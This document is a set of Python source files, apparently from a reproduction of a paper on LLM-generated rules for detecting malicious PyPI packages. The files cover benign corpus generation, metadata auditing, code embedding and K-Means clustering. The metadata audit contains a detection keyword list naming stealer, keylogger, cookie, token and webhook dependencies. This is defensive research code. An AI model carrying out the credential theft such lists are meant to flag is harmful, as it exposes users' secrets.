"""Synthetic legitimate-package generator.

Models the paper's 500 "most popular PyPI packages" slice (Table VI): real
library shapes -- several modules of substantive code averaging ~3,052 LoC,
complete and consistent metadata, plausible dependencies.  A controlled
fraction of the code legitimately uses APIs that naive rules consider
suspicious (``subprocess``, ``os.environ``, ``requests``, ``base64``, file
removal), which is what gives overly broad rules their false positives.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.corpus.fillers import render_module, render_vendored_module
from repro.corpus.naming import BENIGN_AUTHORS, POPULAR_PACKAGES, random_project_name
from repro.corpus.package import BENIGN, Package, PackageFile, PackageMetadata
from repro.utils.seeding import DeterministicRandom
from repro.utils.text import safe_identifier

_MODULE_NAMES = (
    "core", "utils", "helpers", "models", "client", "session", "parser",
    "config", "exceptions", "compat", "adapters", "structures", "auth",
    "serializers", "validators", "backends", "cache", "pipeline",
)

_SUMMARY_TEMPLATES = (
    "A {adj} {noun} library for Python.",
    "{adj} {noun} toolkit with a clean, typed API.",
    "Fast and friendly {noun} handling for modern Python.",
    "The missing {noun} layer for your application.",
)
_ADJECTIVES = ("robust", "lightweight", "composable", "production-ready", "ergonomic", "minimal")
_NOUNS = ("HTTP", "serialization", "configuration", "caching", "validation", "data-access",
          "task-queue", "templating", "retry", "logging")

_CLASSIFIERS = (
    "Development Status :: 5 - Production/Stable",
    "Intended Audience :: Developers",
    "License :: OSI Approved :: MIT License",
    "Programming Language :: Python :: 3",
    "Programming Language :: Python :: 3.10",
    "Programming Language :: Python :: 3.11",
    "Operating System :: OS Independent",
    "Topic :: Software Development :: Libraries :: Python Modules",
)


@dataclass
class BenignGeneratorConfig:
    """Knobs controlling the synthetic legitimate corpus."""

    package_count: int = 500
    seed: int = 500
    modules_range: tuple[int, int] = (6, 12)
    pieces_per_module_range: tuple[int, int] = (12, 26)
    risky_piece_probability: float = 0.10
    #: Fraction of packages that contain *any* risky-but-benign code at all.
    #: Real popular libraries split roughly in half between pure-Python data
    #: wrangling and packages that legitimately shell out / talk HTTP / read
    #: the environment -- and only the latter can ever trip a broad rule.
    risky_package_probability: float = 0.52
    use_popular_names: bool = True

    def __post_init__(self) -> None:
        if self.package_count < 0:
            raise ValueError("package_count must be >= 0")
        if not 0.0 <= self.risky_piece_probability <= 1.0:
            raise ValueError("risky_piece_probability must be in [0, 1]")
        if not 0.0 <= self.risky_package_probability <= 1.0:
            raise ValueError("risky_package_probability must be in [0, 1]")


class BenignGenerator:
    """Deterministically generate a corpus of legitimate packages."""

    def __init__(self, config: BenignGeneratorConfig | None = None) -> None:
        self.config = config or BenignGeneratorConfig()
        self._rng = DeterministicRandom(self.config.seed, "benign-generator")

    def generate(self) -> list[Package]:
        packages = []
        for index in range(self.config.package_count):
            packages.append(self._build_package(index))
        return packages

    def build_package(self, index: int) -> Package:
        """Build the ``index``-th package of the corpus on its own.

        Each package derives its randomness from a per-index child scope,
        so any index can be generated lazily — streaming consumers (the
        arena's replay traffic) draw single packages out of a large index
        space without materialising the corpus.
        """
        if index < 0:
            raise ValueError("package index must be >= 0")
        return self._build_package(index)

    # -- assembly -------------------------------------------------------------
    def _package_name(self, index: int, rng: DeterministicRandom) -> str:
        if self.config.use_popular_names and index < len(POPULAR_PACKAGES):
            return POPULAR_PACKAGES[index]
        return random_project_name(rng) + str(index)

    def _build_package(self, index: int) -> Package:
        rng = self._rng.child(f"pkg-{index}")
        name = self._package_name(index, rng)
        module_name = safe_identifier(name.replace("-", "_"))
        version = f"{rng.randint(1, 6)}.{rng.randint(0, 30)}.{rng.randint(0, 12)}"
        metadata = self._build_metadata(name, version, rng)

        module_count = rng.randint(*self.config.modules_range)
        chosen_modules = rng.sample(list(_MODULE_NAMES), module_count)
        risky_probability = (
            self.config.risky_piece_probability
            if rng.coin(self.config.risky_package_probability)
            else 0.0
        )
        files = [
            PackageFile("setup.py", metadata.to_setup_py()),
            PackageFile("PKG-INFO", metadata.to_pkg_info()),
            PackageFile("README.md", self._render_readme(name, metadata)),
            PackageFile(f"{module_name}/__init__.py", self._render_init(module_name, chosen_modules, version)),
        ]
        for mod in chosen_modules:
            pieces = rng.randint(*self.config.pieces_per_module_range)
            content = render_module(
                rng.child(mod),
                pieces=pieces,
                risky_probability=risky_probability,
                docstring=f"{name}.{mod}: {mod} helpers.",
            )
            files.append(PackageFile(f"{module_name}/{mod}.py", content))
        if rng.coin(0.7):
            files.append(PackageFile(
                f"{module_name}/_vendor.py",
                render_vendored_module(rng.child("vendor"), pieces=rng.randint(3, 8),
                                       docstring=f"Vendored helpers bundled with {name}."),
            ))
        files.append(PackageFile(f"tests/test_{module_name}.py", self._render_tests(module_name, chosen_modules, rng)))

        return Package(
            name=name,
            version=version,
            metadata=metadata,
            files=files,
            label=BENIGN,
        )

    def _build_metadata(self, name: str, version: str, rng: DeterministicRandom) -> PackageMetadata:
        author, email = rng.choice(BENIGN_AUTHORS)
        summary = rng.choice(_SUMMARY_TEMPLATES).format(adj=rng.choice(_ADJECTIVES), noun=rng.choice(_NOUNS))
        dependencies = sorted(rng.sample(list(POPULAR_PACKAGES[:40]), rng.randint(0, 5)))
        dependencies = [dep for dep in dependencies if dep != name]
        description = (
            f"{name} is {summary.lower()} It provides a well-documented, fully tested public API, "
            "semantic-versioned releases, and wheels for all supported platforms. "
            "See the project documentation for tutorials, API reference and a changelog."
        )
        return PackageMetadata(
            name=name,
            version=version,
            summary=summary,
            description=description,
            author=author,
            author_email=email,
            home_page=f"https://github.com/{safe_identifier(name)}/{safe_identifier(name)}",
            license="MIT",
            keywords=[rng.choice(_NOUNS).lower(), "python", "library"],
            classifiers=list(_CLASSIFIERS),
            dependencies=dependencies,
        )

    def _render_init(self, module_name: str, modules: list[str], version: str) -> str:
        lines = [f'"""{module_name}: public package interface."""', ""]
        lines.append(f'__version__ = "{version}"')
        lines.append("")
        for mod in sorted(modules):
            lines.append(f"from {module_name} import {mod}  # noqa: F401")
        lines.append("")
        lines.append("__all__ = [")
        for mod in sorted(modules):
            lines.append(f'    "{mod}",')
        lines.append("]")
        return "\n".join(lines) + "\n"

    def _render_readme(self, name: str, metadata: PackageMetadata) -> str:
        return (
            f"# {name}\n\n{metadata.summary}\n\n"
            f"## Installation\n\n```bash\npip install {name}\n```\n\n"
            f"## Usage\n\n```python\nimport {safe_identifier(name.replace('-', '_'))}\n```\n\n"
            f"## License\n\n{metadata.license}\n"
        )

    def _render_tests(self, module_name: str, modules: list[str], rng: DeterministicRandom) -> str:
        lines = ['"""Smoke tests shipped with the sdist."""', "", f"import {module_name}", ""]
        lines.append("")
        lines.append(f"def test_version():")
        lines.append(f"    assert {module_name}.__version__")
        for mod in sorted(modules)[:4]:
            lines.append("")
            lines.append("")
            lines.append(f"def test_{mod}_importable():")
            lines.append(f"    from {module_name} import {mod}")
            lines.append(f"    assert {mod} is not None")
        return "\n".join(lines) + "\n"
