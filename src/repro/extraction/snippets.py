"""Code snippet extraction and segmentation (paper Section III-B).

The paper splits each source file into fixed-length segments (threshold 512
characters) before embedding.  ``extract_snippets`` yields per-file snippets;
``split_segments`` performs the fixed-length split used by the embedder.
"""

from __future__ import annotations

from dataclasses import dataclass

from repro.corpus.package import Package

#: Fixed segment length used by the paper when splitting source code.
SEGMENT_LENGTH = 512


@dataclass(frozen=True)
class CodeSnippet:
    """A chunk of source code attributed to its origin."""

    package: str
    path: str
    index: int
    text: str

    @property
    def length(self) -> int:
        return len(self.text)


def split_segments(text: str, segment_length: int = SEGMENT_LENGTH) -> list[str]:
    """Split ``text`` into consecutive segments of at most ``segment_length``.

    Splits are nudged to the nearest newline after the threshold so that a
    statement is rarely cut mid-line (a small fidelity improvement over a
    blind character split that keeps tokenisation stable).
    """
    if segment_length <= 0:
        raise ValueError("segment_length must be positive")
    segments: list[str] = []
    position = 0
    length = len(text)
    while position < length:
        end = position + segment_length
        if end < length:
            newline = text.find("\n", end)
            if newline != -1 and newline - end < 120:
                end = newline + 1
        segments.append(text[position:end])
        position = end
    return segments


def extract_snippets(package: Package, segment_length: int = SEGMENT_LENGTH) -> list[CodeSnippet]:
    """Extract fixed-length code snippets from every source file of a package."""
    snippets: list[CodeSnippet] = []
    for source in package.source_files:
        if source.path in ("setup.py",) and len(package.source_files) > 1:
            # setup.py is analysed via its own basic units; keep it anyway if
            # it is the only source file in the package.
            pass
        for index, segment in enumerate(split_segments(source.content, segment_length)):
            if segment.strip():
                snippets.append(
                    CodeSnippet(package=package.identifier, path=source.path, index=index, text=segment)
                )
    return snippets
