"""Malware knowledge extraction (paper Section III).

Turns a package into the two inputs RuleLLM consumes:

* **metadata** -- extracted from ``PKG-INFO``, ``setup.py`` or the registry
  JSON (Figure 1), normalised into :class:`repro.corpus.package.PackageMetadata`;
* **code snippets** -- source files split into fixed-length segments,
  embedded into vectors (CodeBERT in the paper, a deterministic hashing
  embedder here) and grouped with K-Means so that near-identical malware
  variants land in the same cluster (Figure 2).
"""

from repro.extraction.metadata import extract_metadata, metadata_audit
from repro.extraction.unpacking import (
    load_package_from_directory,
    unpack_archive,
    write_package_to_directory,
)
from repro.extraction.snippets import CodeSnippet, extract_snippets, split_segments
from repro.extraction.embedding import CodeEmbedder, EmbeddingConfig
from repro.extraction.clustering import (
    ClusterResult,
    KMeans,
    cluster_packages,
    cosine_similarity,
    intra_cluster_similarity,
)

__all__ = [
    "extract_metadata",
    "metadata_audit",
    "unpack_archive",
    "write_package_to_directory",
    "load_package_from_directory",
    "CodeSnippet",
    "extract_snippets",
    "split_segments",
    "CodeEmbedder",
    "EmbeddingConfig",
    "KMeans",
    "ClusterResult",
    "cluster_packages",
    "cosine_similarity",
    "intra_cluster_similarity",
]
