"""Package metadata extraction and auditing (paper Section III-A, Table II).

The paper lists three sources for a package's metadata -- the ``pkg-info``
file, the ``setup`` file and the registry ``egg-info`` / JSON API.  We parse
whichever is available and fall back to the in-memory metadata carried by the
synthetic package (the stand-in for the registry API).

``metadata_audit`` reproduces the four metadata checks of Table II: empty
information, release zero, typosquatting and suspicious dependencies.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass, field

from repro.corpus.naming import POPULAR_PACKAGES, is_similar_to_popular
from repro.corpus.package import Package, PackageMetadata

_PKG_INFO_FIELDS = {
    "Name": "name",
    "Version": "version",
    "Summary": "summary",
    "Home-page": "home_page",
    "Author": "author",
    "Author-email": "author_email",
    "License": "license",
}

_SETUP_KWARG_RE = re.compile(
    r"^\s*(name|version|description|author|author_email|url|license)\s*=\s*"
    r"(?P<quote>['\"])(?P<value>.*?)(?P=quote)\s*,?\s*$",
    re.MULTILINE,
)
_SETUP_FIELD_MAP = {
    "name": "name",
    "version": "version",
    "description": "summary",
    "author": "author",
    "author_email": "author_email",
    "url": "home_page",
    "license": "license",
}
_INSTALL_REQUIRES_RE = re.compile(r"install_requires\s*=\s*\[(?P<body>.*?)\]", re.DOTALL)
_STRING_RE = re.compile(r"['\"]([^'\"]+)['\"]")


def parse_pkg_info(text: str) -> PackageMetadata:
    """Parse a ``PKG-INFO`` / ``METADATA`` style document."""
    metadata = PackageMetadata(name="", version="")
    description_lines: list[str] = []
    in_body = False
    for line in text.splitlines():
        if in_body:
            description_lines.append(line)
            continue
        if not line.strip():
            in_body = True
            continue
        if ":" not in line:
            continue
        key, _, value = line.partition(":")
        key, value = key.strip(), value.strip()
        if key in _PKG_INFO_FIELDS:
            setattr(metadata, _PKG_INFO_FIELDS[key], value)
        elif key == "Requires-Dist":
            metadata.dependencies.append(value)
        elif key == "Classifier":
            metadata.classifiers.append(value)
        elif key == "Keywords":
            metadata.keywords = [k.strip() for k in value.split(",") if k.strip()]
    if description_lines:
        metadata.description = "\n".join(description_lines).strip()
    return metadata


def parse_setup_py(text: str) -> PackageMetadata:
    """Extract metadata kwargs from a ``setup.py`` with regular expressions.

    The paper implements this step with the ``re`` library rather than by
    executing the setup script (which would run the very payload we are
    analysing); we do the same.
    """
    metadata = PackageMetadata(name="", version="")
    for found in _SETUP_KWARG_RE.finditer(text):
        field_name = _SETUP_FIELD_MAP[found.group(1)]
        setattr(metadata, field_name, found.group("value"))
    requires = _INSTALL_REQUIRES_RE.search(text)
    if requires:
        metadata.dependencies = _STRING_RE.findall(requires.group("body"))
    return metadata


def parse_registry_json(text: str) -> PackageMetadata:
    """Parse the registry JSON document (the ``egg-info`` / API route)."""
    data = json.loads(text)
    if "info" in data and isinstance(data["info"], dict):
        data = data["info"]
    return PackageMetadata(
        name=data.get("name", ""),
        version=data.get("version", "0.0.0"),
        summary=data.get("summary", ""),
        description=data.get("description", ""),
        author=data.get("author", ""),
        author_email=data.get("author_email", ""),
        home_page=data.get("home_page", data.get("homepage", "")),
        license=data.get("license", ""),
        keywords=list(data.get("keywords", []) or []),
        classifiers=list(data.get("classifiers", []) or []),
        dependencies=list(data.get("requires_dist", data.get("dependencies", [])) or []),
    )


def _merge(primary: PackageMetadata, fallback: PackageMetadata) -> PackageMetadata:
    """Fill empty fields of ``primary`` from ``fallback``."""
    for field_name in ("name", "version", "summary", "description", "author",
                       "author_email", "home_page", "license"):
        if not getattr(primary, field_name):
            setattr(primary, field_name, getattr(fallback, field_name))
    if not primary.dependencies:
        primary.dependencies = list(fallback.dependencies)
    if not primary.classifiers:
        primary.classifiers = list(fallback.classifiers)
    if not primary.keywords:
        primary.keywords = list(fallback.keywords)
    return primary


def extract_metadata(package: Package) -> PackageMetadata:
    """Extract metadata for a package using all three sources of Figure 1."""
    # start from genuinely empty fields so the merge below can fill them
    # (the dataclass default of "0.0.0" would otherwise shadow real versions)
    extracted = PackageMetadata(name="", version="")
    pkg_info = package.file("PKG-INFO") or package.file("METADATA")
    if pkg_info is not None:
        extracted = _merge(extracted, parse_pkg_info(pkg_info.content))
    setup_file = package.file("setup.py")
    if setup_file is not None:
        extracted = _merge(extracted, parse_setup_py(setup_file.content))
    # registry view: the in-memory metadata plays the role of the API response
    extracted = _merge(extracted, package.metadata)
    if not extracted.name:
        extracted.name = package.name
    if not extracted.version:
        extracted.version = package.version
    return extracted


# -- auditing (Table II, metadata half) -----------------------------------------

_SUSPICIOUS_DEPENDENCY_HINTS = (
    "obfusc", "crypt", "keylog", "cookie", "token", "stealer", "grabber",
    "webhook", "pyautogui", "pynput",
)


@dataclass
class MetadataAudit:
    """Findings of the metadata audit for one package."""

    empty_information: bool = False
    release_zero: bool = False
    typosquatting: bool = False
    suspicious_dependencies: list[str] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)

    @property
    def suspicious(self) -> bool:
        return (self.empty_information or self.release_zero or self.typosquatting
                or bool(self.suspicious_dependencies))

    def findings(self) -> list[str]:
        found = []
        if self.empty_information:
            found.append("empty description / missing author information")
        if self.release_zero:
            found.append("release version looks like a placeholder (0.0 / 0.0.0)")
        if self.typosquatting:
            found.append("package name is confusingly similar to a popular package")
        for dep in self.suspicious_dependencies:
            found.append(f"suspicious dependency: {dep}")
        found.extend(self.notes)
        return found


def metadata_audit(metadata: PackageMetadata) -> MetadataAudit:
    """Run the four metadata checks of Table II."""
    audit = MetadataAudit()
    if not metadata.description.strip() and not metadata.summary.strip():
        audit.empty_information = True
    if not metadata.author.strip() and not metadata.author_email.strip():
        audit.empty_information = True
        audit.notes.append("author fields are empty")
    version = metadata.version.strip()
    if version in ("0.0", "0.0.0", "0", "0.0.0.0") or version.startswith("0.0."):
        audit.release_zero = True
    if metadata.name and is_similar_to_popular(metadata.name):
        audit.typosquatting = True
    known = {p.lower() for p in POPULAR_PACKAGES}
    for dependency in metadata.dependencies:
        dep_name = re.split(r"[<>=!\[; ]", dependency, 1)[0].strip().lower()
        if not dep_name:
            continue
        if dep_name in known:
            continue
        if any(hint in dep_name for hint in _SUSPICIOUS_DEPENDENCY_HINTS) or is_similar_to_popular(dep_name):
            audit.suspicious_dependencies.append(dependency)
    return audit
