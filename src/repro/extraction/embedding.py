"""Code embedding (CodeBERT substitute).

The paper embeds 512-character code segments with CodeBERT and concatenates
the segment vectors.  CodeBERT cannot be shipped offline, so we substitute a
deterministic *lexical feature-hashing embedder*: code is tokenised, token
unigrams and bigrams are hashed into a fixed number of buckets, and the
resulting count vector is L2-normalised.

The property the downstream pipeline relies on -- *near-identical code maps
to nearby vectors, unrelated code maps to distant vectors* -- is preserved:
variants of the same malware family share almost all their tokens and land in
the same K-Means cluster, which is all Section III-B requires.
"""

from __future__ import annotations

import io
import re
import tokenize
from dataclasses import dataclass

import numpy as np

from repro.corpus.package import Package
from repro.extraction.snippets import SEGMENT_LENGTH, split_segments
from repro.utils.hashing import stable_hash

_FALLBACK_TOKEN_RE = re.compile(r"[A-Za-z_][A-Za-z0-9_]*|\d+|[^\sA-Za-z0-9_]")


@dataclass(frozen=True)
class EmbeddingConfig:
    """Configuration of the hashing embedder."""

    dimensions: int = 256
    segment_length: int = SEGMENT_LENGTH
    use_bigrams: bool = True
    lowercase: bool = True

    def __post_init__(self) -> None:
        if self.dimensions < 8:
            raise ValueError("dimensions must be >= 8")
        if self.segment_length <= 0:
            raise ValueError("segment_length must be positive")


def tokenize_code(text: str) -> list[str]:
    """Tokenise Python source, falling back to a regex lexer on errors.

    The paper uses the ``tokenize`` library for the same purpose; malformed
    or obfuscated code falls back to a liberal regex split so embedding never
    fails.
    """
    tokens: list[str] = []
    try:
        for token in tokenize.generate_tokens(io.StringIO(text).readline):
            if token.type in (tokenize.NEWLINE, tokenize.NL, tokenize.INDENT,
                              tokenize.DEDENT, tokenize.ENDMARKER, tokenize.ENCODING):
                continue
            value = token.string.strip()
            if value:
                tokens.append(value)
    except (tokenize.TokenError, IndentationError, SyntaxError, ValueError):
        tokens = []
    if not tokens:
        tokens = _FALLBACK_TOKEN_RE.findall(text)
    return tokens


class CodeEmbedder:
    """Deterministic hashing embedder for source code."""

    def __init__(self, config: EmbeddingConfig | None = None) -> None:
        self.config = config or EmbeddingConfig()

    # -- single text ---------------------------------------------------------
    def embed(self, text: str) -> np.ndarray:
        """Embed one code segment into a unit-norm vector."""
        dims = self.config.dimensions
        vector = np.zeros(dims, dtype=np.float64)
        tokens = tokenize_code(text)
        if self.config.lowercase:
            tokens = [token.lower() for token in tokens]
        if not tokens:
            return vector
        for token in tokens:
            vector[stable_hash(token, bits=32) % dims] += 1.0
        if self.config.use_bigrams:
            for first, second in zip(tokens, tokens[1:]):
                vector[stable_hash(first + "\x00" + second, bits=32) % dims] += 0.5
        norm = np.linalg.norm(vector)
        if norm > 0:
            vector /= norm
        return vector

    # -- segments and packages ---------------------------------------------------
    def embed_segments(self, text: str) -> np.ndarray:
        """Embed each fixed-length segment of ``text`` (matrix of row vectors)."""
        segments = split_segments(text, self.config.segment_length) or [""]
        return np.vstack([self.embed(segment) for segment in segments])

    def embed_document(self, text: str) -> np.ndarray:
        """Embed a whole document as the mean of its segment vectors.

        The paper concatenates segment vectors; clustering, however, needs a
        fixed dimensionality, so we aggregate by averaging (documented
        substitution in DESIGN.md).  Averaging keeps near-duplicate documents
        near-identical, which is the property K-Means grouping depends on.
        """
        segment_matrix = self.embed_segments(text)
        vector = segment_matrix.mean(axis=0)
        norm = np.linalg.norm(vector)
        if norm > 0:
            vector = vector / norm
        return vector

    def embed_package(self, package: Package) -> np.ndarray:
        """Embed the concatenated source of one package."""
        return self.embed_document(package.source_text or package.all_text)

    def embed_packages(self, packages: list[Package]) -> np.ndarray:
        """Embed several packages into a matrix of row vectors."""
        if not packages:
            return np.zeros((0, self.config.dimensions))
        return np.vstack([self.embed_package(package) for package in packages])
