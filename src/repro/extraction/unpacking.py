"""Package unpacking (paper Section III-B, "Unpacking").

Real packages arrive as sdists / wheels; the paper unpacks them to a folder
before analysis.  This module handles tar/zip archives and plain directories,
and can also write an in-memory :class:`~repro.corpus.package.Package` to
disk (used by the examples to produce realistic on-disk corpora).
"""

from __future__ import annotations

import io
import os
import tarfile
import zipfile
from pathlib import Path
from typing import Iterable

from repro.corpus.package import Package, PackageFile, PackageMetadata

_SOURCE_EXTENSIONS = (".py", ".js", ".cfg", ".toml", ".txt", ".md", ".json", ".yaml", ".yml", "")
_MAX_FILE_BYTES = 2_000_000


def _is_interesting(path: str) -> bool:
    name = os.path.basename(path)
    if name in ("PKG-INFO", "METADATA"):
        return True
    _, ext = os.path.splitext(name)
    return ext in _SOURCE_EXTENSIONS


def _decode(raw: bytes) -> str:
    return raw.decode("utf-8", errors="replace")


def unpack_archive(data: bytes, archive_name: str = "package") -> list[tuple[str, str]]:
    """Extract ``(path, content)`` pairs from a tar or zip archive in memory."""
    files: list[tuple[str, str]] = []
    buffer = io.BytesIO(data)
    if zipfile.is_zipfile(buffer):
        buffer.seek(0)
        with zipfile.ZipFile(buffer) as archive:
            for info in archive.infolist():
                if info.is_dir() or info.file_size > _MAX_FILE_BYTES:
                    continue
                if _is_interesting(info.filename):
                    files.append((info.filename, _decode(archive.read(info))))
        return files
    buffer.seek(0)
    try:
        with tarfile.open(fileobj=buffer, mode="r:*") as archive:
            for member in archive.getmembers():
                if not member.isfile() or member.size > _MAX_FILE_BYTES:
                    continue
                if not _is_interesting(member.name):
                    continue
                extracted = archive.extractfile(member)
                if extracted is None:
                    continue
                files.append((member.name, _decode(extracted.read())))
    except tarfile.TarError as exc:
        raise ValueError(f"cannot unpack archive {archive_name!r}: {exc}") from exc
    return files


def write_package_to_directory(package: Package, directory: str | Path) -> Path:
    """Write a package's files under ``directory/<name>-<version>/``."""
    root = Path(directory) / f"{package.name}-{package.version}"
    for item in package.files:
        target = root / item.path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(item.content, encoding="utf-8")
    return root


def load_package_from_directory(directory: str | Path, label: str = "benign") -> Package:
    """Load a package from an unpacked directory tree."""
    root = Path(directory)
    if not root.is_dir():
        raise FileNotFoundError(f"not a directory: {root}")
    files: list[PackageFile] = []
    for path in sorted(root.rglob("*")):
        if not path.is_file():
            continue
        relative = path.relative_to(root).as_posix()
        if not _is_interesting(relative):
            continue
        if path.stat().st_size > _MAX_FILE_BYTES:
            continue
        files.append(PackageFile(relative, path.read_text(encoding="utf-8", errors="replace")))
    name, _, version = root.name.rpartition("-")
    if not name:
        name, version = root.name, "0.0.0"
    package = Package(
        name=name,
        version=version or "0.0.0",
        metadata=PackageMetadata(name=name, version=version or "0.0.0"),
        files=files,
        label=label,
    )
    return package


def write_corpus(packages: Iterable[Package], directory: str | Path) -> list[Path]:
    """Write several packages to disk, returning the created roots."""
    return [write_package_to_directory(package, directory) for package in packages]
