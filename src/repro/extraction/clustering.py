"""K-Means clustering of code embeddings (paper Section III-B, "Group").

The paper clusters code-snippet vectors with scikit-learn's K-Means
(random seed 42, at most 500 iterations) and keeps only clusters whose
intra-similarity is at least 0.85.  scikit-learn is not available offline, so
this module provides a NumPy K-Means with the same hyper-parameters, plus the
similarity computations and the package-level ``cluster_packages`` helper the
pipeline uses.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from repro.corpus.package import Package
from repro.extraction.embedding import CodeEmbedder

#: Hyper-parameters fixed by the paper.
DEFAULT_RANDOM_SEED = 42
DEFAULT_MAX_ITERATIONS = 500
DEFAULT_SIMILARITY_THRESHOLD = 0.85


def cosine_similarity(a: np.ndarray, b: np.ndarray) -> float:
    """Cosine similarity between two vectors (0.0 when either is zero)."""
    norm_a = np.linalg.norm(a)
    norm_b = np.linalg.norm(b)
    if norm_a == 0.0 or norm_b == 0.0:
        return 0.0
    return float(np.dot(a, b) / (norm_a * norm_b))


def intra_cluster_similarity(vectors: np.ndarray) -> float:
    """Average pairwise cosine similarity of the rows of ``vectors``.

    A single-member cluster is perfectly homogeneous by definition.
    """
    count = vectors.shape[0]
    if count <= 1:
        return 1.0
    norms = np.linalg.norm(vectors, axis=1, keepdims=True)
    norms[norms == 0.0] = 1.0
    normalised = vectors / norms
    gram = normalised @ normalised.T
    total = gram.sum() - np.trace(gram)
    pairs = count * (count - 1)
    return float(total / pairs)


class KMeans:
    """Plain NumPy K-Means with k-means++ style initialisation."""

    def __init__(
        self,
        n_clusters: int,
        random_seed: int = DEFAULT_RANDOM_SEED,
        max_iterations: int = DEFAULT_MAX_ITERATIONS,
        tolerance: float = 1e-6,
    ) -> None:
        if n_clusters < 1:
            raise ValueError("n_clusters must be >= 1")
        self.n_clusters = n_clusters
        self.random_seed = random_seed
        self.max_iterations = max_iterations
        self.tolerance = tolerance
        self.centroids: np.ndarray | None = None
        self.labels: np.ndarray | None = None
        self.iterations_run: int = 0

    # -- fitting ------------------------------------------------------------
    def fit(self, data: np.ndarray) -> "KMeans":
        if data.ndim != 2:
            raise ValueError("data must be a 2-D array of row vectors")
        samples = data.shape[0]
        if samples == 0:
            raise ValueError("cannot cluster an empty data set")
        k = min(self.n_clusters, samples)
        rng = np.random.default_rng(self.random_seed)
        centroids = self._init_centroids(data, k, rng)
        labels = np.zeros(samples, dtype=np.int64)
        for iteration in range(1, self.max_iterations + 1):
            distances = self._pairwise_sq_distances(data, centroids)
            labels = distances.argmin(axis=1)
            new_centroids = centroids.copy()
            for cluster in range(k):
                members = data[labels == cluster]
                if len(members):
                    new_centroids[cluster] = members.mean(axis=0)
                else:
                    # re-seed an empty cluster at the farthest point
                    farthest = distances.min(axis=1).argmax()
                    new_centroids[cluster] = data[farthest]
            shift = float(np.linalg.norm(new_centroids - centroids))
            centroids = new_centroids
            self.iterations_run = iteration
            if shift <= self.tolerance:
                break
        self.centroids = centroids
        self.labels = labels
        return self

    def predict(self, data: np.ndarray) -> np.ndarray:
        if self.centroids is None:
            raise RuntimeError("KMeans.predict called before fit")
        return self._pairwise_sq_distances(data, self.centroids).argmin(axis=1)

    def fit_predict(self, data: np.ndarray) -> np.ndarray:
        return self.fit(data).labels  # type: ignore[return-value]

    # -- internals ---------------------------------------------------------------
    @staticmethod
    def _pairwise_sq_distances(data: np.ndarray, centroids: np.ndarray) -> np.ndarray:
        # Euclidean distance in vector space, as in the paper.
        diff = data[:, None, :] - centroids[None, :, :]
        return np.einsum("ijk,ijk->ij", diff, diff)

    @staticmethod
    def _init_centroids(data: np.ndarray, k: int, rng: np.random.Generator) -> np.ndarray:
        samples = data.shape[0]
        first = int(rng.integers(samples))
        chosen = [first]
        for _ in range(1, k):
            current = data[chosen]
            distances = KMeans._pairwise_sq_distances(data, current).min(axis=1)
            total = distances.sum()
            if total <= 0:
                remaining = [i for i in range(samples) if i not in chosen]
                if not remaining:
                    break
                chosen.append(int(rng.choice(remaining)))
                continue
            probabilities = distances / total
            chosen.append(int(rng.choice(samples, p=probabilities)))
        return data[chosen].astype(np.float64).copy()


@dataclass
class ClusterResult:
    """Outcome of grouping packages by code similarity."""

    clusters: list[list[Package]] = field(default_factory=list)
    discarded: list[list[Package]] = field(default_factory=list)
    similarities: list[float] = field(default_factory=list)
    labels: dict[str, int] = field(default_factory=dict)

    @property
    def retained_count(self) -> int:
        return len(self.clusters)

    @property
    def package_count(self) -> int:
        return sum(len(group) for group in self.clusters)

    def cluster_of(self, package: Package) -> int | None:
        return self.labels.get(package.identifier)


def cluster_packages(
    packages: list[Package],
    embedder: CodeEmbedder | None = None,
    n_clusters: int | None = None,
    similarity_threshold: float = DEFAULT_SIMILARITY_THRESHOLD,
    random_seed: int = DEFAULT_RANDOM_SEED,
    max_iterations: int = DEFAULT_MAX_ITERATIONS,
) -> ClusterResult:
    """Group similar packages with K-Means, keeping homogeneous clusters.

    ``n_clusters`` defaults to a heuristic (one cluster per ~4 packages,
    bounded to [1, n]); clusters whose average pairwise cosine similarity is
    below ``similarity_threshold`` are reported in ``discarded`` (paper:
    "clusters with an intra-similarity below 0.85 are discarded").
    """
    result = ClusterResult()
    if not packages:
        return result
    embedder = embedder or CodeEmbedder()
    matrix = embedder.embed_packages(packages)
    if n_clusters is None:
        n_clusters = max(1, round(len(packages) / 4))
    n_clusters = min(max(1, n_clusters), len(packages))
    model = KMeans(n_clusters=n_clusters, random_seed=random_seed, max_iterations=max_iterations)
    labels = model.fit_predict(matrix)

    for cluster_index in range(int(labels.max()) + 1):
        member_indices = [i for i, label in enumerate(labels) if label == cluster_index]
        if not member_indices:
            continue
        members = [packages[i] for i in member_indices]
        similarity = intra_cluster_similarity(matrix[member_indices])
        result.similarities.append(similarity)
        if similarity >= similarity_threshold:
            for member in members:
                result.labels[member.identifier] = len(result.clusters)
            result.clusters.append(members)
        else:
            result.discarded.append(members)
    return result
