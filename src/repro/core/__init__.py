"""RuleLLM core pipeline (the paper's primary contribution).

The pipeline decomposes rule generation into the three subtasks of Figure 3:

1. **Crafting** (:mod:`repro.core.crafting`) -- split the clustered malware
   code into basic units, prompt the LLM with several similar units (and with
   the package metadata) and obtain coarse-grained rules plus an analysis
   document;
2. **Refining** (:mod:`repro.core.refining`) -- self-reflection and merging
   of the coarse rules into one scalable rule per group;
3. **Aligning** (:mod:`repro.core.aligning`) -- an agent equipped with the
   YARA / Semgrep compilers fixes rules until they compile (at most five
   attempts, memory of the last two errors).

:class:`repro.core.pipeline.RuleLLM` orchestrates the three stages over a
corpus and returns a :class:`repro.core.rules.GeneratedRuleSet`.
"""

from repro.core.config import RuleLLMConfig
from repro.core.basic_units import BasicUnit, split_basic_units
from repro.core.rules import GeneratedRule, GeneratedRuleSet
from repro.core.taxonomy import RuleTaxonomyClassifier, classify_rule
from repro.core.pipeline import RuleLLM

__all__ = [
    "RuleLLMConfig",
    "BasicUnit",
    "split_basic_units",
    "GeneratedRule",
    "GeneratedRuleSet",
    "RuleTaxonomyClassifier",
    "classify_rule",
    "RuleLLM",
]
