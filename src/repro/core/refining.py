"""Refining stage (paper Section IV-B).

The coarse rules and analysis documents from the crafting stage are fed back
to the LLM with the Table IV prompt: the model self-reflects on whether the
rules align with the analysis, then merges overlapping rules into a single,
scalable rule per (cluster, format, origin) group.
"""

from __future__ import annotations

from dataclasses import dataclass, field

